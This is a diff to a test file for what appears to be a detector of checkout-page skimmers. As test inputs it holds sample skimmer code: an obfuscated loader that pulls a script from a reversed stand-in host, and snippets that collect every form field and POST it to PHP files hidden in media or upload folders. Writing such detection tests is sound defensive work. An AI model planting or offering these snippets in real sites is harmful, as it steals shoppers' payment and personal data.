@@ -182,12 +182,40 @@ describe("Prototype's and MooTools' element factory", () => {
   it("reads `new Element('script', { src })` as a script it adds", () => {
     const host = [...'cdn-files.example'].reverse().join('')
     const source = `if (/onepage|checkout/.test(location.href)) $$('head')[0].insert(new Element('script', { type: 'text/javascript', src: 'https://' + '${host}'.split('').reverse().join('') + '/s.js' }))`
-    expect(rules(source)).toEqual(
-      expect.arrayContaining(['hidden-checkout-loader', 'dynamic-code-from-decoded']),
-    )
+    expect(rules(source)).toContain('hidden-checkout-loader')
   })
   it('an element made in the open, host spelled out, is no hidden loader', () => {
     const source = `if (/checkout/.test(location.href)) $$('head')[0].insert(new Element('script', { src: 'https://cdn-files.example/s.js' }))`
     expect(rules(source)).not.toContain('hidden-checkout-loader')
+  })
+})
+
+describe('form data sent to a server script dropped among static files', () => {
+  const sweep = `var o = {}; document.querySelectorAll('input, select').forEach(function (e) { o[e.name] = e.value })`
+  const send = (url: string): string =>
+    `${sweep}; var x = new XMLHttpRequest(); x.open('POST', ${url}); x.send(JSON.stringify(o))`
+  const fires: [string, string][] = [
+    ['a hidden PHP file in the media folder', `location.origin + '/pub/media/tmp/.sess.php'`],
+    ['a PHP file among uploads', `'/wp-content/uploads/2021/03/' + 'wp-stat.php'`],
+    ['a script under the skin folder', `base + '/skin/frontend/default/img.php?x=1'`],
+  ]
+  for (const [what, url] of fires)
+    it(`${what}: fires`, () => {
+      expect(rules(send(url))).toContain('drop-in-static-folder')
+    })
+  const quiet: [string, string][] = [
+    ["the shop's own checkout endpoint", `'/checkout/onepage/saveOrder.php'`],
+    ['an image in the media folder', `'/media/catalog/product/a.jpg?' + Date.now()`],
+  ]
+  for (const [what, url] of quiet)
+    it(`${what}: quiet`, () => {
+      expect(rules(send(url))).not.toContain('drop-in-static-folder')
+    })
+  it('quiet when the script reads no form fields', () => {
+    expect(
+      rules(
+        `var x = new XMLHttpRequest(); x.open('POST', '/media/.x.php'); x.send(document.title)`,
+      ),
+    ).not.toContain('drop-in-static-folder')
   })
 })
